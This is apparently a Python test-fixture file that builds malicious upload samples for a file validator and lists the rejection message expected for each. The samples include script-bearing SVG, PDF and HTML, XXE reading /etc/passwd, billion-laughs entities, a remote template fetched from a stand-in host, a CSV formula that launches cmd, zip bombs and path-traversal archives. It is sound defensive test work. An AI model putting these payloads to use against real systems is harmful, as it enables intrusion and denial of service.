"""Files that mean harm, each made here: what it is called when it is handed in, and why it is refused."""

from __future__ import annotations

import gzip
import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable

import docx
import openpyxl
from PIL import Image

import pdfs

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(400)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<html><script>alert(1)</script></html>"
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w>&b;</w>'
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
TEMPLATE = (
    b'<Relationships xmlns="r"><Relationship Id="r1" Type="http://schemas.example/attachedTemplate" '
    b'Target="http://198.51.100.1/evil.dotm" TargetMode="External"/></Relationships>'
)
JAVASCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
# Packed to nothing, and far more than a thousand times as large.
BOMB = 8 * 2**20


def zipped(members: dict[str, bytes], change: Callable[[zipfile.ZipInfo], None] = lambda one: None) -> bytes:
    """Return a zip of members, each of whose entries may be changed before it is written."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in members.items():
            one = zipfile.ZipInfo(name)
            one.compress_type = zipfile.ZIP_DEFLATED
            change(one)
            package.writestr(one, content)
    return out.getvalue()


def office(make: Callable[[], object], more: dict[str, bytes]) -> bytes:
    """Return an office document with further parts."""
    out = io.BytesIO()
    make().save(out)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package:
        for name, content in more.items():
            package.writestr(name, content)
    return out.getvalue()


def text(more: dict[str, bytes]) -> bytes:
    return office(docx.Document, more)


def text_of(words: str) -> bytes:
    """Return a text of one paragraph, which means no harm."""
    document, out = docx.Document(), io.BytesIO()
    document.add_paragraph(words)
    document.save(out)
    return out.getvalue()


def book(more: dict[str, bytes]) -> bytes:
    return office(openpyxl.Workbook, more)


def ofd(*pages: str, more: dict[str, bytes] | None = None) -> bytes:
    """Return an OFD with a page for each text, a line for each of its lines, and with further parts."""
    space = "http://www.ofdspec.org/2016"
    lines = [
        [f"<ofd:TextObject><ofd:TextCode>{line}</ofd:TextCode></ofd:TextObject>" for line in one.splitlines()]
        for one in pages
    ]
    parts = {"OFD.xml": f'<ofd:OFD xmlns:ofd="{space}"/>'.encode(), "Doc_0/Document.xml": b"<d/>"}
    parts |= {
        f"Doc_0/Pages/Page_{at}/Content.xml": f'<ofd:Page xmlns:ofd="{space}">{"".join(one)}</ofd:Page>'.encode()
        for at, one in enumerate(lines)
    }
    return zipped(parts | (more or {}))


def picture(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (20, 20), "white").save(out, kind)
    return out.getvalue()


def large_picture() -> bytes:
    """Return a PNG that says that it has 3,600 million dots, and weighs nothing."""
    head = struct.pack("!IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 100)), (b"IEND", b"")]
    made = b"".join(struct.pack("!I", len(one)) + k + one + struct.pack("!I", zlib.crc32(k + one)) for k, one in parts)
    return b"\x89PNG\r\n\x1a\n" + made


def symlink(one: zipfile.ZipInfo) -> None:
    one.external_attr = (stat.S_IFLNK | 0o777) << 16


def locked() -> bytes:
    """Return a zip whose entry says that it is under a password."""
    content = bytearray(zipped({"一.txt": b"x"}))
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.find(sign) + place] |= 1
    return bytes(content)


def overlapping() -> bytes:
    """Return a zip two of whose entries are the same bytes."""
    content = bytearray(zipped({"一.txt": b"x" * 500, "二.txt": b"x" * 500}))
    second = content.rfind(b"PK\x01\x02")
    content[second + 42 : second + 46] = struct.pack("<I", 5)
    return bytes(content)


def claiming() -> bytes:
    """Return a zip whose entry claims more bytes than the whole file has."""
    content = bytearray(zipped({"一.txt": b"x" * 500}))
    at = content.rfind(b"PK\x01\x02")
    content[at + 20 : at + 24] = struct.pack("<I", 10_000_000)
    return bytes(content)


def torn(content: bytes) -> bytes:
    """Return a zip with nonsense where the first entry's packed bytes stand."""
    start = 30 + struct.unpack("<HH", content[26:30])[0] + struct.unpack("<HH", content[26:30])[1]
    return content[:start] + b"\xff" * 20 + content[start + 20 :]


def script_in_the_opening() -> bytes:
    return pdfs.raw([], b"/OpenAction" + JAVASCRIPT)


def script_by_name() -> bytes:
    return pdfs.raw([JAVASCRIPT], b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>")


def attached() -> bytes:
    stream = b"<</Length 2>>stream\nMZ\nendstream"
    spec = b"<</Type/Filespec/F(a.exe)/UF(a.exe)/EF<</F 4 0 R>>>>"
    return pdfs.raw([stream, spec], b"/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>")


def launching() -> bytes:
    return pdfs.raw([], b"/OpenAction<</S/Launch/F(cmd.exe)>>")


# What it is: its name, its content, and what is said of it.
REFUSED: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "a picture that is a script": ("图.svg", lambda: SVG, "不收这种文件"),
    "a script under a picture's name": ("图.png", lambda: SVG, "其实是 csv"),
    "a page under a paper's name": ("批复.pdf", lambda: HTML, "其实是 csv"),
    "a program under a paper's name": ("批复.pdf", lambda: EXE, "不是 pdf"),
    "a program under a picture's name": ("照片.jpg", lambda: EXE, "不是 jpg"),
    "a program with two endings": ("批复.pdf.exe", lambda: EXE, "不收这种文件"),
    "an ending turned round": ("批复\u202efdp.exe", lambda: EXE, "不收这种文件"),
    "an ending behind a nought": ("批复.pdf\x01.exe", lambda: EXE, "不收这种文件"),
    "nothing": ("空.pdf", lambda: b"", "文件是空的"),
    "a paper and a zip": ("批复.pdf", lambda: pdfs.pages("批复") + zipped({"a.exe": EXE}), "接着一个压缩包"),
    "a photo and a zip": ("照片.jpg", lambda: picture("JPEG") + zipped({"a.exe": EXE}), "接着一个压缩包"),
    "a drawing and a zip": ("图.png", lambda: picture("PNG") + zipped({"a.exe": EXE}), "接着一个压缩包"),
    "a paper and a page": ("批复.pdf", lambda: pdfs.pages("批复") + HTML, "网页脚本"),
    "a photo and a script": ("照片.jpg", lambda: picture("JPEG") + b"<?php system(1); ?>", "网页脚本"),
    "a drawing and a page": ("图.png", lambda: picture("PNG") + SVG, "网页脚本"),
    "a paper that starts a program": ("批复.pdf", launching, "启动别的程序"),
    "a paper whose opening is a script": ("批复.pdf", script_in_the_opening, "带脚本"),
    "a paper with a named script": ("批复.pdf", script_by_name, "带脚本"),
    "a paper with a file in it": ("批复.pdf", attached, "夹着别的文件"),
    "a text with macros": ("文.docx", lambda: text({"word/vbaProject.bin": OLE}), "带宏"),
    "a text with a control": ("文.docx", lambda: text({"word/activeX/activeX1.bin": b"x"}), "带宏或控件"),
    "a text that fetches its template": (
        "文.docx",
        lambda: text({"word/_rels/settings.xml.rels": TEMPLATE}),
        "到别处去取",
    ),
    "a text that grows": ("文.docx", lambda: text({"customXml/item1.xml": LAUGHS}), "自己膨胀"),
    "a text with a program": ("文.docx", lambda: text({"word/embeddings/oleObject1.bin": EXE}), "是程序"),
    "a workbook with macros": ("表.xlsx", lambda: book({"xl/vbaProject.bin": OLE}), "带宏"),
    "a workbook with old macros": ("表.xlsx", lambda: book({"xl/macrosheets/sheet1.xml": b"<x/>"}), "带宏"),
    "a workbook that reads the server": ("表.xlsx", lambda: book({"customXml/item1.xml": OUTSIDE}), "自己膨胀"),
    "a workbook that bursts": ("表.xlsx", lambda: book({"xl/media/a.bin": bytes(BOMB)}), "炸弹"),
    "an old workbook with macros": (
        "表.xls",
        lambda: OLE + "Workbook".encode("utf-16-le") + bytes(600) + "_VBA_PROJECT".encode("utf-16-le"),
        "带宏",
    ),
    "a workbook under a password": (
        "表.xlsx",
        lambda: OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
        "打开密码",
    ),
    "a table that starts a program": ("数.csv", lambda: b"a,b\r\n=cmd|' /C calc'!A0,1\r\n", "启动程序"),
    "a picture of any size": ("图.png", large_picture, "太大|大得不合常理"),
    "an official paper that grows": ("批复.ofd", lambda: ofd("批复", more={"Doc_0/a.xml": LAUGHS}), "自己膨胀"),
    "an official paper with a program": ("批复.ofd", lambda: ofd("批复", more={"Doc_0/Attachs/a.dat": EXE}), "是程序"),
    "an official paper that leads out": ("批复.ofd", lambda: ofd("批复", more={"../../a.xml": b"x"}), "以外"),
    "an official paper that bursts": ("批复.ofd", lambda: ofd("批复", more={"a.bin": bytes(BOMB)}), "炸弹"),
    "a text under an official paper's name": ("批复.ofd", lambda: text({}), "其实是 docx"),
    "an old text": ("批复.doc", lambda: OLE + bytes(600), "另存为 docx"),
    "a zip that bursts": ("包.zip", lambda: zipped({"a.txt": bytes(BOMB)}), "炸弹"),
    "a zip of many": ("包.zip", lambda: zipped({f"{at}.txt": b"" for at in range(3001)}), "超过 3000 个"),
    "a zip whose files overlap": ("包.zip", overlapping, "互相重叠"),
    "a zip that claims too much": ("包.zip", claiming, "互相重叠"),
    "a zip that leads out": ("包.zip", lambda: zipped({"../../a.txt": b"x"}), "以外"),
    "a zip that leads to the root": ("包.zip", lambda: zipped({"/etc/passwd": b"x"}), "以外"),
    "a zip that leads to a drive": ("包.zip", lambda: zipped({"C:\\Windows\\a.txt": b"x"}), "以外"),
    "a zip with a device": ("包.zip", lambda: zipped({"目录/CON.txt": b"x"}), "以外"),
    "a zip with a link": ("包.zip", lambda: zipped({"链接": b"/etc/passwd"}, symlink), "是一个链接"),
    "a zip under a password": ("包.zip", locked, "打开密码"),
    "a zip with a program": ("包.zip", lambda: zipped({"照片.jpg": EXE}), "是程序"),
    "a zip with macros": ("包.zip", lambda: zipped({"xl/vbaProject.bin": OLE}), "带宏"),
    "a torn zip": ("包.zip", lambda: torn(zipped({"a.txt": b"abcdefgh" * 400})), "文件坏了"),
    "a torn workbook": ("表.xlsx", lambda: torn(book({})), "文件坏了"),
    "half a zip": ("包.zip", lambda: zipped({"a.txt": b"x"})[:30], "不是 zip"),
    "another kind of archive": ("包.zip", lambda: gzip.compress(b"x"), "不是 zip"),
}
# What is called otherwise than it may be: its name, and the name under which it is kept.
RENAMED = {
    "../../../etc/cron.d/批复.pdf": "批复.pdf",
    "..\\..\\Windows\\批复.pdf": "批复.pdf",
    "C:\\Users\\a\\批复.pdf": "批复.pdf",
    "批\u202e复\x07.pdf": "批复.pdf",
    "长" * 400 + ".pdf": "长" * 196 + ".pdf",
}
